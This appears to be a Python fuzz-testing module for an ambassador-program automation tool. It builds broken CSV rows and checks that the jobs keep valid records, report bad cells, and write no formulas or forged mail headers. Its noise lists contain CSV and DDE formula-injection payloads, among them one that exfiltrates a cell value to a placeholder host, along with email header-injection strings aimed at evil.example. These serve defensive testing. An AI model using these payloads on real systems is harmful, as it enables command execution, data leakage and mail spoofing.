"""Bad-input fuzzing (issue 11): broken rows for the check-in form and every staff-filled table, and the checks
that the jobs kept every valid row, reported every invalid one and wrote no formula.

One set of generators serves the hypothesis test (`tests/test_fuzz.py`, which hands in hypothesis's own
`random.Random`, so a failing example shrinks and replays) and the 10,000-row benchmark (`bench/fuzz_10k.py`, a
seeded `random.Random`). Each generated row is built to be valid (the test knows its record must be kept) or
broken in one known cell (the test knows which column a data problem must name); around that, any row may
carry noise the jobs must survive: control characters, formula-looking text, other scripts, long text, short
rows and extra columns.

`build(folder, rnd, sizes)` writes the tables into a copy of the example program and returns what it expects;
`run_jobs` runs the real CLI over it; `check` compares what the jobs wrote with what was expected and returns
the findings (empty when every rule held).
"""

from __future__ import annotations

import contextlib
import csv
import json
import os
import random
import subprocess
import sys
import time
from dataclasses import dataclass, field
from datetime import date, datetime, timedelta
from pathlib import Path

from automations.adapters.csv.safe_cells import TRIGGERS

ROOT = Path(__file__).resolve().parent.parent
AS_OF = date(2026, 11, 23)
READER = "conduct-reader@example.org"
EVENT_FILE = "2026-11-10 Fuzz sprint.csv"

# --- noise ----------------------------------------------------------------------------------------------

FORMULAS = ['=HYPERLINK("http://x","y")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1",
            "'=already quoted", "=IMPORTXML(CONCAT(\"http://x/?\",A1),\"//a\")", "-", "+", "@"]
CONTROLS = ["a\x00b", "line\r\nbreak", "lone\rcr", "\x1b[2Jclear", "para\u2028sep", "del\x7f", "nel\x85x",
            "tab\there", "bell\x07", "\x0b\x0cfeeds", "zero\u200bwidth", "rtl\u202eevil"]
#: Text that would add a header if a message took it as it is: RFC 2047 encoded words (quoted-printable and base64)
#: that decode to line breaks and headers, and bidi controls and zero-width characters (issue 18).
HEADER_TRICKS = ["=?utf-8?q?Eve=0D=0ABcc:_victim@evil.example=0D=0AX-Ignore:_?=", "=?utf-8?q?=0D=0AX-A:_b?=",
                 "=?utf-8?b?RXZlDQpCY2M6IHZpY3RpbUBldmlsLmV4YW1wbGUNClJlcGx5LVRvOiB2aWN0aW1AZXZpbC5leGFtcGxlDQo=?=",
                 "Eve\r\nBcc: victim@evil.example\r\nReply-To: victim@evil.example", "=?iso-8859-1?b?RXZlDQpDYzogdkBldmlsLmV4YW1wbGU=?= x",
                 "Eve \u202egnp.exe\u202c\u200b\u2066Bcc: victim@evil.example\u2069\ufeff", "a=?utf-8?q?=0A?=b"]
SCRIPTS = ["Zoë Müller", "Łukasz Wiśniewski", "Nguyễn Thị Lan", "Мария Иванова", "Αλέξης", "محمد علي", "王小明",
           "さくら", "김민준", "emoji 🎉", "\ufeffbom inside"]
PLAIN = ["Meetup", "Workshop on segments", "Talk at the user group", "Blog post", "Forum answers", "Sprint"]


def noise(rnd: random.Random, long_max: int = 20_000) -> str:
    """Text a person could paste into any free-text cell."""
    pick = rnd.random()
    if pick < 0.25:
        return rnd.choice(FORMULAS)
    if pick < 0.37:
        return rnd.choice(CONTROLS)
    if pick < 0.45:
        return rnd.choice(HEADER_TRICKS)
    if pick < 0.6:
        return rnd.choice(SCRIPTS)
    if pick < 0.65:
        return rnd.choice("xé中=") * rnd.randint(min(1000, long_max), long_max)
    if pick < 0.75:
        return ""
    return rnd.choice(PLAIN)


def printable(rnd: random.Random) -> str:
    """A name a certificate can draw (formula-looking or in another script, but no control character)."""
    return rnd.choice(["Ana Costa", "=Ana", "@ana", "-Bo-", "Zoë Müller", "Мария Иванова", "王小明", "محمد علي",
                       "+Priya", HEADER_TRICKS[0], HEADER_TRICKS[1], HEADER_TRICKS[2], HEADER_TRICKS[5]])


def labelled(rnd: random.Random, text: str, n: int) -> str:
    """`text` made unique to its row (so no two rows are the same record), noise kept in front."""
    return f"{text} #{n}"


BAD_DATES = ["31/02/2026", "2026-13-01", "tomorrow", "sometime in August", "0/0/0", "9999-99-99", "1e9", "NaN",
             "=TODAY()", "\x00", "14/08/2026\x1b", "-5", "12/2026", "2026/08/14/01"]
BAD_TIMESTAMPS = ["yesterday", "32/10/2026 10:00:00", "2026-10-01T25:00:00", "1e9", "NaN", "=NOW()", "\x00",
                  "10:00:00", "14/08/2026 25:00", "14/08/2026 1:00 PM GMT+1 extra", "13/13/2026 10:00:00"]
# ("14/08/2026 10:00", an Excel re-save without seconds, and "2026/08/14 1:00:00 PM GMT+1", Google's download,
# are timestamps: `tests/test_checkin_shapes.py` reads them.)
BAD_COUNTS = ["1,2,3", "lots", "1e9", "-5", "NaN", "=1+1", "1.2.3", "a dozen", "12 people", "\x00", "+7"]
BAD_HOURS = ["1,2,3", "lots", "1e9", "-5", "NaN", "=1+1", "1.2.3", "a while", "\x00", "2 days"]
# Refused by every table's parser (the roster and the attendee lists check the shape further: "x@", "@x").
BAD_EMAILS = ["not-an-email", "a b@example.org", "=HYPERLINK(\"x\")", "\x00", "-", "name at example.org"]
BAD_AMOUNTS = ["lots", "1e9", "-5", "NaN", "=1+1", "1,2,3", "1.2.3.4", "€", "\x00"]


def some_date(rnd: random.Random, first: date, last: date, formats=("%d/%m/%Y", "%Y-%m-%d")) -> tuple[date, str]:
    day = first + timedelta(days=rnd.randint(0, (last - first).days))
    return day, day.strftime(rnd.choice(formats))


def cased(rnd: random.Random, email: str) -> str:
    """An address as people type it: any case, spaces around."""
    return rnd.choice(["", " "]) + (email.upper() if rnd.random() < 0.2 else email) + rnd.choice(["", "  "])


# --- the tables -------------------------------------------------------------------------------------------

@dataclass
class Table:
    """A table as written, and what the jobs must do with it."""

    path: str  # relative to the data folder
    headers: list[str]
    rows: list[list[str]] = field(default_factory=list)
    first_row: int = 2  # the sheet row of rows[0]
    keep: dict[int, object] = field(default_factory=dict)  # sheet row -> the record that must be there
    report: dict[int, set[str]] = field(default_factory=dict)  # sheet row -> the columns problems must name

    def add(self, cells: list[str], keep: object = None, report: tuple[str, ...] = ()) -> int:
        row_no = self.first_row + len(self.rows)
        self.rows.append(cells)
        if keep is not None:
            self.keep[row_no] = keep
        if report:
            self.report.setdefault(row_no, set()).update(report)
        return row_no

    def next_row(self) -> int:
        return self.first_row + len(self.rows)


def shaped(rnd: random.Random, cells: list[str], width: int) -> list[str]:
    """Short rows (trailing empty cells left off, as some exports do) and extra cells past the header."""
    cells = list(cells)
    if rnd.random() < 0.2:
        while cells and cells[-1] == "":
            cells.pop()
    elif rnd.random() < 0.1:  # past the last column only (a short row's extra cells would land in columns)
        cells += [noise(rnd, 200) for _ in range(rnd.randint(1, 3))]
    return cells


def empty_row(rnd: random.Random, width: int) -> list[str]:
    return rnd.choice([[], [""] * width, [" "] * width, ["", "  ", "\t"]])


def read_rows(path: Path) -> tuple[list[str], list[list[str]]]:
    with path.open(encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.reader(fh))
    return rows[0], rows[1:]


def roster_emails(data: Path) -> list[str]:
    headers, rows = read_rows(data / "ambassadors.csv")
    i = headers.index("Email")
    return [r[i].strip().lower() for r in rows if len(r) > i and "@" in r[i]]


# check-in responses ----------------------------------------------------------------------------------------

def checkin_table(rnd: random.Random, n: int, headers: list[str], emails: list[str]) -> Table:
    t = Table("checkin_responses.csv", headers)
    width = len(headers)
    kinds = [h for h in headers]
    starts = [i for i, h in enumerate(headers) if h.endswith("What kind of activity was it?")]
    fields = ["kind", "title", "date", "link", "goal", "registrations", "attendees", "hours", "audience", "views",
              "engagements", "reshares", "description"]
    labels = ["Networking", "Giving a talk", "Documentation or translation", "Advocacy (local point of contact)",
              "Organizing an event (user group, MautiCamp, sprint, workshop)", " giving a TALK ",
              "Content creation (social post, blog, video, podcast)", "Community support (forum, onboarding)"]
    del kinds
    stamps = sorted(datetime(2026, 7, 1, 8) + timedelta(minutes=rnd.randint(0, 200_000)) for _ in range(n))
    stamps = [s if s.date() < AS_OF else datetime(2026, 11, 22, 12) for s in stamps]
    for k in range(n):
        row_no = t.next_row()
        pick = rnd.random()
        if pick < 0.05:
            t.add(empty_row(rnd, width))
            continue
        row = [""] * width
        received = stamps[k]
        row[0] = received.strftime(rnd.choice(["%d/%m/%Y %H:%M:%S", "%Y-%m-%d %H:%M:%S"]))
        row[1] = cased(rnd, rnd.choice(emails))
        row[2] = noise(rnd, 2000)
        row[3] = rnd.choice(["2026 Q3", "2026 Q4", "Q3", "", "=1", "third"])
        row[-1] = noise(rnd) if len(headers) > starts[-1] + len(fields) else row[-1]
        if pick < 0.12:
            row[0] = rnd.choice(BAD_TIMESTAMPS)
            t.add(shaped(rnd, row, width), report=(headers[0],))
            continue
        if pick < 0.17:
            row[1] = rnd.choice(["unknown@example.org", "", "  ", *BAD_EMAILS])
            t.add(shaped(rnd, row, width), report=(headers[1],))
            continue
        kept: list[int] = []
        report: list[str] = []
        filled = rnd.sample(range(len(starts)), rnd.randint(1, len(starts)))
        for s in sorted(filled):
            at = starts[s]
            cells = {f: "" for f in fields}
            cells["kind"] = rnd.choice(labels)
            cells["title"] = labelled(rnd, noise(rnd, 3000), row_no * 10 + s)
            last = min(received.date(), AS_OF)
            _, cells["date"] = some_date(rnd, last - timedelta(days=80), last)
            cells["link"] = rnd.choice(["https://example.com/a", "", noise(rnd, 500)])
            cells["goal"] = noise(rnd, 5000)
            cells["registrations"] = rnd.choice(["", "12", "1,200", "~300", "300+", "1.200"])
            cells["attendees"] = rnd.choice(["", "40", "1 200", "approx 30"])
            cells["hours"] = rnd.choice(["", "2", "2,5", "1.5 hours", "~3"])
            cells["audience"] = noise(rnd, 500)
            cells["views"] = rnd.choice(["", "0", "5424"])
            cells["description"] = noise(rnd)
            broken = rnd.random()
            if broken < 0.12:
                cells["kind"] = rnd.choice(["Podcast guest", "=HYPERLINK(\"x\")", "a\x00b", "Networking!!", "-"])
                report.append(headers[at])
            elif broken < 0.18:
                cells["title"] = rnd.choice(["", " ", "\u2028", "\t\r\n"])
                report.append(headers[at + 1])
            elif broken < 0.3:
                cells["date"] = rnd.choice(BAD_DATES + [""])
                report.append(headers[at + 2])
            elif broken < 0.35:
                cells["date"] = (received.date() + timedelta(days=rnd.randint(1, 30))).strftime("%d/%m/%Y")
                report.append(headers[at + 2])
            else:
                kept.append(s + 1)
                if broken < 0.45:
                    metric = rnd.choice(["registrations", "attendees", "views", "engagements", "reshares", "hours"])
                    cells[metric] = rnd.choice(BAD_HOURS if metric == "hours" else BAD_COUNTS)
                    report.append(headers[at + fields.index(metric)])
            for offset, f in enumerate(fields):
                row[at + offset] = cells[f]
        t.add(shaped(rnd, row, width), keep=("checkin", tuple(kept)), report=tuple(report))
    return t


# the roster ------------------------------------------------------------------------------------------------

def roster_rows(rnd: random.Random, n: int, base: Table) -> None:
    """Ambassadors appended to the example roster (whose rows stay, so the check-ins still match them)."""
    h = base.headers
    width = len(h)
    col = {name: h.index(name) for name in h}
    valid_emails: list[str] = []
    for _k in range(n):
        row_no = base.next_row()
        pick = rnd.random()
        if pick < 0.05:
            base.add(empty_row(rnd, width))
            continue
        row = [""] * width
        email = f"fuzz{row_no}@example.org"
        status = rnd.choice(["active", "paused", "alumni", "removed"])
        row[col["Name"]] = noise(rnd, 2000)
        row[col["Email"]] = cased(rnd, email)
        row[col["Country"]] = rnd.choice(["Germany", "India", "", noise(rnd, 100)])
        row[col["Region"]] = noise(rnd, 100)
        row[col["Languages"]] = rnd.choice(["en; de", "fr,es", "", noise(rnd, 50)])
        _, row[col["Start date"]] = some_date(rnd, date(2020, 2, 1), date(2026, 7, 31), ("%Y-%m-%d", "%d/%m/%Y"))
        row[col["Status"]] = rnd.choice([status, status.upper(), f" {status} "])
        row[col["Forum handle"]] = noise(rnd, 100)
        row[col["Chat handle"]] = rnd.choice(["@someone", "=cmd", noise(rnd, 100)])
        row[col["Notes"]] = noise(rnd)
        if pick < 0.12:
            row[col["Email"]] = rnd.choice(BAD_EMAILS + [""]) if rnd.random() < 0.7 or not valid_emails \
                else cased(rnd, rnd.choice(valid_emails))
            base.add(shaped(rnd, row, width), report=("Email",))
        elif pick < 0.18:
            row[col["Status"]] = rnd.choice(["retired", "=active", "act\x00ive", "on leave", "-"])
            base.add(shaped(rnd, row, width), report=("Status",))
        elif pick < 0.25:
            row[col["Start date"]] = rnd.choice(BAD_DATES + [""])
            base.add(shaped(rnd, row, width), report=("Start date",))
        else:
            report: tuple[str, ...] = ()
            if pick < 0.3:
                row[col["Status history"]] = rnd.choice(["2026-13-01 paused", "soon active", "2026-01-01 retired",
                                                         "=1", "2026-01-01 paused; 2026-01-01 active"])
                report = ("Status history",)
            valid_emails.append(email)
            base.add(shaped(rnd, row, width), keep=("ambassador", email), report=report)


# blog proposals ------------------------------------------------------------------------------------------

BLOG_HEADERS = ["Title", "Author email", "Summary", "Reviewers", "Stage", "Published URL", "Published on",
                "Document", "Stage history"]


def blog_table(rnd: random.Random, n: int, emails: list[str]) -> Table:
    t = Table("blog_proposals.csv", list(BLOG_HEADERS))
    for _k in range(n):
        row_no = t.next_row()
        pick = rnd.random()
        if pick < 0.05:
            t.add(empty_row(rnd, 9))
            continue
        title = labelled(rnd, noise(rnd, 2000), row_no)
        stage = rnd.choice(["proposed", "Draft", "first review", "final review", "scheduled", "published", ""])
        published = ""
        if stage == "published":
            _, published = some_date(rnd, date(2026, 1, 1), AS_OF - timedelta(days=1), ("%Y-%m-%d", "%d/%m/%Y"))
        row = [title, cased(rnd, rnd.choice(emails)), noise(rnd), rnd.choice(["", "ambassador-staff@example.org"]),
               stage, rnd.choice(["", "https://mautic.org/blog/x", noise(rnd, 100)]), published, "", ""]
        if pick < 0.1:
            row[0] = rnd.choice(["", "  ", "\u2028"])
            t.add(shaped(rnd, row, 9), report=("Title",))
        elif pick < 0.16:
            row[1] = rnd.choice(BAD_EMAILS + [""])
            t.add(shaped(rnd, row, 9), report=("Author email",))
        elif pick < 0.22:
            row[4] = rnd.choice(["rejected", "=published", "in review", "\x00"])
            t.add(shaped(rnd, row, 9), report=("Stage",))
        elif pick < 0.26 and stage == "published":
            row[6] = rnd.choice(BAD_DATES)
            t.add(shaped(rnd, row, 9), keep=("proposal", row_no), report=("Published on",))
        else:
            t.add(shaped(rnd, row, 9), keep=("proposal", row_no))
    return t


# funding requests ----------------------------------------------------------------------------------------

FUNDING_HEADERS = ["Ambassador email", "What", "Kind", "Amount", "Currency", "Event date", "Region", "Status",
                   "Approved amount", "Invoice", "Invoice received", "Evidence", "Requested on", "First seen",
                   "Flags", "Reminders sent"]


def funding_table(rnd: random.Random, n: int, emails: list[str]) -> Table:
    t = Table("funding_requests.csv", list(FUNDING_HEADERS))
    w = len(FUNDING_HEADERS)
    for _k in range(n):
        row_no = t.next_row()
        pick = rnd.random()
        if pick < 0.05:
            t.add(empty_row(rnd, w))
            continue
        _, event = some_date(rnd, date(2026, 6, 1), date(2027, 6, 30), ("%Y-%m-%d", "%d/%m/%Y"))
        status = rnd.choice(["requested", "approved", "Rejected", "", "paid"])
        invoice = rnd.choice(["", "https://example.org/invoice.pdf", noise(rnd, 200)])
        row = [cased(rnd, rnd.choice(emails)), labelled(rnd, noise(rnd, 2000), row_no),
               rnd.choice(["travel", "swag", "large event", "", noise(rnd, 50)]),
               rnd.choice(["250", "1,200.50", "1.200,50", "1 200", "€ 80", "80 EUR", "0"]),
               rnd.choice(["EUR", "usd", " gbp "]), event, noise(rnd, 100), status,
               rnd.choice(["", "200", "1,000"]), invoice, "", rnd.choice(["", "photos", noise(rnd, 100)]),
               rnd.choice(["", "2026-05-01", "01/05/2026"]), "", "", ""]
        report: tuple[str, ...] = ()
        if status == "paid" and not (invoice.strip() and row[11].strip()):
            report = ("Status",)  # paid without an invoice or evidence: kept, and staff told
        if pick < 0.1:
            row[0] = rnd.choice(BAD_EMAILS + [""])
            t.add(shaped(rnd, row, w), report=("Ambassador email",))
        elif pick < 0.14:
            row[1] = rnd.choice(["", " ", "\r\n"])
            t.add(shaped(rnd, row, w), report=("What",))
        elif pick < 0.2:
            row[5] = rnd.choice(BAD_DATES + [""])
            t.add(shaped(rnd, row, w), report=("Event date",))
        elif pick < 0.26:
            row[3] = rnd.choice(BAD_AMOUNTS + [""])
            t.add(shaped(rnd, row, w), report=("Amount",))
        elif pick < 0.3:
            row[4] = rnd.choice(["EURO", "€", "E1R", "", "=EU"])
            t.add(shaped(rnd, row, w), report=("Currency",))
        elif pick < 0.34:
            row[7] = rnd.choice(["pending", "=paid", "ok", "\x00"])
            t.add(shaped(rnd, row, w), report=("Status",))
        elif pick < 0.4:
            row[8] = rnd.choice(BAD_AMOUNTS[:-1])
            t.add(shaped(rnd, row, w), keep=("request", row_no), report=("Approved amount", *report))
        else:
            t.add(shaped(rnd, row, w), keep=("request", row_no), report=report)
    return t


# referral inquiries and answers ------------------------------------------------------------------------------

INQUIRY_HEADERS = ["Organization", "Contact name", "Contact email", "Country", "Region", "Language", "Need",
                   "Details", "Summary for ambassadors", "Inquiry ID", "Referral status", "Current candidate",
                   "Offered at", "Recommended ambassador", "Referral history"]
ANSWER_HEADERS = ["Timestamp", "Offer code", "Answer", "Email Address"]


def inquiry_table(rnd: random.Random, n: int) -> Table:
    t = Table("referral_inquiries.csv", list(INQUIRY_HEADERS))
    w = len(INQUIRY_HEADERS)
    for _k in range(n):
        row_no = t.next_row()
        pick = rnd.random()
        if pick < 0.05:
            t.add(empty_row(rnd, w))
            continue
        row = [labelled(rnd, noise(rnd, 2000), row_no), noise(rnd, 100),
               rnd.choice(["", "buyer@example.com", " Buyer@Example.COM "]),
               rnd.choice(["India", "Germany", "Brazil", "Atlantis", noise(rnd, 50)]), rnd.choice(["", "Europe"]),
               rnd.choice(["", "en", "de"]), rnd.choice(["training", "Services", " getting started "]),
               noise(rnd), noise(rnd, 300), "", "", "", "", "", ""]
        if not (row[3].strip() or row[4].strip() or row[5].strip()):
            row[5] = "en"
        if pick < 0.12:
            row[6] = rnd.choice(["", "consulting", "=training", "\x00"])
            t.add(shaped(rnd, row, w), report=("Need",))
        elif pick < 0.18:
            row[3] = row[4] = row[5] = rnd.choice(["", " "])
            t.add(shaped(rnd, row, w), report=("Country",))
        elif pick < 0.24:
            row[2] = rnd.choice(BAD_EMAILS)
            t.add(shaped(rnd, row, w), report=("Contact email",))
        else:
            t.add(shaped(rnd, row, w), keep=("inquiry", row_no))
    return t


def answer_table(rnd: random.Random, n: int) -> Table:
    """Answers no offer was made for: each is a data problem (a word that is no answer, a broken timestamp,
    or a code that matches no open offer)."""
    t = Table("referral_answers.csv", list(ANSWER_HEADERS))
    for _k in range(n):
        pick = rnd.random()
        if pick < 0.05:
            t.add(empty_row(rnd, 4))
            continue
        stamp = (datetime(2026, 10, 1) + timedelta(minutes=rnd.randint(0, 70_000))).strftime("%d/%m/%Y %H:%M:%S")
        row = [stamp, rnd.choice(["ABC123", "", noise(rnd, 50)]), rnd.choice(["Yes", "No", "yes please"]),
               rnd.choice(["", "zoe@example.org", noise(rnd, 50)])]
        if pick < 0.4:
            row[2] = rnd.choice(["maybe", "", "=yes", "\x00", "oui"])
            t.add(shaped(rnd, row, 4), report=("Answer",))
        elif pick < 0.6:
            row[0] = rnd.choice(BAD_TIMESTAMPS)
            t.add(shaped(rnd, row, 4), report=("Timestamp",))
        else:
            t.add(shaped(rnd, row, 4), report=("Offer code",))
    return t


# event attendees ------------------------------------------------------------------------------------------

def attendee_table(rnd: random.Random, n: int) -> Table:
    t = Table(f"attendees/{EVENT_FILE}", ["Name", "Email", "Notes"])
    for _k in range(n):
        row_no = t.next_row()
        pick = rnd.random()
        if pick < 0.05:
            t.add(empty_row(rnd, 3))
            continue
        email = f"attendee{row_no}@example.org"
        row = [printable(rnd), cased(rnd, email), noise(rnd)]
        if pick < 0.2:
            row[1] = rnd.choice(BAD_EMAILS + ["", "ana@example"])
            row[0] = noise(rnd, 200)
            t.add(shaped(rnd, row, 3), report=("Email",))
        else:
            t.add(shaped(rnd, row, 3), keep=("attendee", email))
    return t


# the conduct register ------------------------------------------------------------------------------------------

def conduct_table(rnd: random.Random, n: int) -> Table:
    t = Table("conduct_register.csv", ["Email", "Date", "Step", "Description", "Recorded by"])
    for _k in range(n):
        row_no = t.next_row()
        pick = rnd.random()
        if pick < 0.05:
            t.add(empty_row(rnd, 5))
            continue
        _, day = some_date(rnd, AS_OF - timedelta(days=700), AS_OF, ("%Y-%m-%d", "%d/%m/%Y"))
        row = [cased(rnd, f"member{row_no}@example.org"), day, rnd.choice(["admonishment", "Warning", "removal"]),
               labelled(rnd, noise(rnd), row_no), rnd.choice(["staff@example.org", noise(rnd, 50)])]
        if pick < 0.15:
            row[0] = rnd.choice(BAD_EMAILS + [""])
            t.add(shaped(rnd, row, 5), report=("Email",))
        elif pick < 0.25:
            row[1] = rnd.choice(BAD_DATES + [""])
            t.add(shaped(rnd, row, 5), report=("Date",))
        elif pick < 0.3:
            row[2] = rnd.choice(["ban", "=removal", "", "\x00"])
            t.add(shaped(rnd, row, 5), keep=("incident", row_no), report=("Step",))
        else:
            t.add(shaped(rnd, row, 5), keep=("incident", row_no))
    return t


# --- the program -------------------------------------------------------------------------------------------

SIZES = {"checkins": 40, "roster": 20, "blog": 15, "funding": 20, "inquiries": 15, "answers": 10, "attendees": 15,
         "conduct": 15}


def write_table(path: Path, t: Table, bom: bool = False) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    with path.open("w", encoding="utf-8-sig" if bom else "utf-8", newline="") as fh:
        csv.writer(fh, quoting=csv.QUOTE_MINIMAL, lineterminator="\r\n").writerows([t.headers, *t.rows])


def build(folder: Path, rnd: random.Random, sizes: dict[str, int] = SIZES) -> dict[str, Table]:
    """Fill the copy of the example program in `folder` (made by `copy_example`) with fuzzed tables; the
    config gets a conduct reader. Returns the tables by name, each with what must be kept and reported."""
    import yaml

    data = folder / "data"
    emails = roster_emails(data)
    responses_headers, _ = read_rows(data / "checkin_responses.csv")
    roster_headers, roster = read_rows(data / "ambassadors.csv")
    tables = {"checkins": checkin_table(rnd, sizes["checkins"], responses_headers, emails)}
    base = Table("ambassadors.csv", roster_headers, [list(r) for r in roster])
    roster_rows(rnd, sizes["roster"], base)
    tables["roster"] = base
    tables["blog"] = blog_table(rnd, sizes["blog"], emails)
    tables["funding"] = funding_table(rnd, sizes["funding"], emails)
    tables["inquiries"] = inquiry_table(rnd, sizes["inquiries"])
    tables["answers"] = answer_table(rnd, sizes["answers"])
    tables["attendees"] = attendee_table(rnd, sizes["attendees"])
    tables["conduct"] = conduct_table(rnd, sizes["conduct"])
    for _name, t in tables.items():
        write_table(data / t.path, t, bom=rnd.random() < 0.3)
    config = folder / "config.yaml"
    cfg = yaml.safe_load(config.read_text(encoding="utf-8"))
    cfg["conduct"]["readers"] = [READER]
    config.write_text(yaml.safe_dump(cfg, allow_unicode=True, sort_keys=False), encoding="utf-8")
    return tables


@dataclass
class Ran:
    command: str
    code: int
    out: str
    err: str
    seconds: float


def cli(config: Path, *args: str, timeout: int = 600) -> Ran:
    """`python -m automations --config CONFIG --as-of AS_OF ARGS`, as cron runs it."""
    env = {**os.environ, "PYTHONPATH": str(ROOT)}
    env.pop("AUTOMATIONS_PRIVACY_KEY", None)
    start = time.perf_counter()
    proc = subprocess.run([sys.executable, "-m", "automations", "--config", str(config), "--as-of",
                           AS_OF.isoformat(), *args], capture_output=True, cwd=config.parent, env=env,
                          timeout=timeout)
    return Ran(" ".join(args), proc.returncode, proc.stdout.decode("utf-8", "replace"),
               proc.stderr.decode("utf-8", "replace"), time.perf_counter() - start)


def run_jobs(config: Path) -> list[Ran]:
    """Every job that reads the fuzzed tables: run-all, certificates, compliance (JSON) and conduct list."""
    return [cli(config, "run-all"), cli(config, "certificates"),
            cli(config, "compliance", "--quarter", "2026Q3", "--format", "json"),
            cli(config, "conduct", "list", "--reader", READER, "--format", "json")]


# --- the checks ---------------------------------------------------------------------------------------------

@dataclass
class Findings:
    """What broke a rule, and the counts the benchmark prints."""

    crashes: list[str] = field(default_factory=list)
    lost: list[str] = field(default_factory=list)  # valid rows whose record is missing
    unreported: list[str] = field(default_factory=list)  # invalid cells no problem names
    formulas: list[str] = field(default_factory=list)  # cells a spreadsheet would run
    forged: list[str] = field(default_factory=list)  # messages with a header or recipient the job did not set
    messages: int = 0  # the messages read for forged headers
    counts: dict[str, dict[str, int]] = field(default_factory=dict)

    def failed(self) -> list[str]:
        return self.crashes + self.lost + self.unreported + self.formulas + self.forged


#: Every header a message of the program holds (CONTRACT.md), and those of its MIME parts.
MESSAGE_HEADERS = {"from", "to", "reply-to", "subject", "date", "message-id", "x-automation-job", "x-automation-key",
                   "list-unsubscribe", "mime-version", "content-type", "content-transfer-encoding"}
PART_HEADERS = {"content-type", "content-transfer-encoding", "content-disposition", "mime-version"}


def forged_headers(outbox: Path) -> tuple[int, list[str]]:
    """The outbox's messages read as a mail program reads them: how many, and each that holds a header not in
    `MESSAGE_HEADERS` (or one twice), a part header not in `PART_HEADERS`, other than one To address, or
    an `evil.example` address in From, To or Reply-To, or does not parse."""
    from email import message_from_bytes, policy

    found, n = [], 0
    for p in sorted(outbox.rglob("*.eml")) if outbox.is_dir() else ():
        n += 1
        try:
            m = message_from_bytes(p.read_bytes(), policy=policy.default)
            names = [k.lower() for k in m]
            odd = sorted(set(names) - MESSAGE_HEADERS) + sorted({k for k in names if names.count(k) > 1})
            odd += sorted({k.lower() for part in m.walk() if part is not m for k in part} - PART_HEADERS)
            to = [a.addr_spec for a in m["To"].addresses]
            if len(to) != 1 or any("evil.example" in a.addr_spec for h in ("From", "To", "Reply-To")
                                   for a in m[h].addresses):
                odd.append(f"To {to}")
        except Exception as exc:  # noqa: BLE001 - a message no mail program can read is a finding too
            odd = [f"unreadable ({type(exc).__name__})"]
        if odd:
            found.append(f"{p.relative_to(outbox)}: {', '.join(odd)}")
    return n, found


def _cell_formula(cell: str) -> bool:
    return cell[:1] in TRIGGERS and cell != ""


def _formulas(path: Path, columns: tuple[str, ...] | None = None) -> list[str]:
    """Cells of `path` (all, or only `columns`) that start with a formula trigger."""
    headers, rows = read_rows(path)
    idx = range(len(headers)) if columns is None else [headers.index(c) for c in columns if c in headers]
    return [f"{path.name} row {n} column {headers[i]!r}: {row[i][:40]!r}"
            for n, row in enumerate(rows, start=2) for i in idx if i < len(row) and _cell_formula(row[i])]


def check(folder: Path, tables: dict[str, Table], runs: list[Ran]) -> Findings:
    f = Findings()
    data = folder / "data"
    for r in runs:
        text = r.out + r.err
        if r.code not in (0, 1, 2) or "Traceback" in text or ("Error:" in r.err and r.code != 2):
            f.crashes.append(f"{r.command}: exit {r.code}: {r.err[-800:]}")
        if r.code == 2 and len([line for line in r.err.splitlines() if line.strip()]) != 1:
            f.crashes.append(f"{r.command}: exit 2 without one sentence: {r.err[-800:]}")

    problems: set[tuple[str, int, str]] = set()
    if (data / "unusable_rows.csv").exists():
        h, rows = read_rows(data / "unusable_rows.csv")
        s, rw, c = h.index("Source"), h.index("Row"), h.index("Column")
        problems = {(row[s], int(row[rw]), _unescaped(row[c])) for row in rows}
    conduct_lines = runs[3].out + runs[3].err

    def reported(t: Table, row: int, column: str) -> bool:
        if t.path == "conduct_register.csv":
            return f"row {row}: {column} " in conduct_lines
        return (Path(t.path).as_posix(), row, column) in problems

    found = _found(data, runs)
    for name, t in tables.items():
        c = f.counts.setdefault(name, {"rows": len(t.rows), "valid": 0, "kept": 0, "invalid": 0, "reported": 0})
        for row, columns in t.report.items():
            for column in columns:
                c["invalid"] += 1
                if reported(t, row, column):
                    c["reported"] += 1
                else:
                    f.unreported.append(f"{t.path} row {row} column {column!r}: no data problem names it")
        whole = name != "blog" or found["proposal"] == {len(t.keep)}  # the blog job states only a count
        for row, want in t.keep.items():
            c["valid"] += 1
            if whole and _kept(found, row, want):
                c["kept"] += 1
            else:
                f.lost.append(f"{t.path} row {row}: {want} was not kept")

    own = [p for p in data.glob("*.csv") if p.name in ("activities.csv", "checkins.csv", "unusable_rows.csv",
                                                      "mail_ledger.csv")]
    for p in own:
        f.formulas += _formulas(p)
    f.formulas += _formulas(data / "ambassadors.csv", ("Standing", "Streak", "Perks", "Last check-in"))
    f.formulas += _formulas(data / "blog_proposals.csv", ("Document", "Stage history"))
    f.formulas += _formulas(data / "funding_requests.csv", ("First seen", "Flags", "Reminders sent"))
    f.formulas += _formulas(data / "referral_inquiries.csv", INQUIRY_HEADERS[9:])
    for p in folder.rglob("*.csv"):
        if p.parent.name not in ("data", "attendees") and ".locks" not in p.parts:
            f.formulas += _formulas(p)  # anything else a job wrote (reports, outbox indexes)
    f.messages, f.forged = forged_headers(folder / "outbox")
    return f


def _unescaped(cell: str) -> str:
    from automations.adapters.csv.safe_cells import unescape

    return unescape(cell)


def _found(data: Path, runs: list[Ran]) -> dict[str, set]:
    """The records the jobs hold after the runs, by kind."""
    from automations.adapters.csv.tables import read_table

    out: dict[str, set] = {k: set() for k in ("activity", "checkin", "ambassador", "proposal", "request", "inquiry",
                                             "attendee", "incident")}
    if (data / "activities.csv").exists():
        h, rows = read_table(data / "activities.csv", "activities")
        out["activity"] = {(int(r[h.index("Row")]), int(r[h.index("Section")])) for r in rows}
    if (data / "checkins.csv").exists():
        h, rows = read_table(data / "checkins.csv", "checkins")
        out["checkin"] = {int(r[h.index("Row")]) for r in rows}
    with contextlib.suppress(ValueError, KeyError):
        out["ambassador"] = {a["email"] for a in json.loads(runs[2].out)["ambassadors"]}
    for kind, name, column in (("request", "funding_requests.csv", "First seen"),
                               ("inquiry", "referral_inquiries.csv", "Inquiry ID")):
        h, rows = read_rows(data / name)
        if column in h:
            i = h.index(column)
            out[kind] = {n for n, r in enumerate(rows, start=2) if i < len(r) and r[i].strip()}
    out["proposal"] = _counted(runs[0].out, "[blog-reviews] ", " proposals in ")
    if (data / "mail_ledger.csv").exists():
        h, rows = read_table(data / "mail_ledger.csv", "mail ledger")
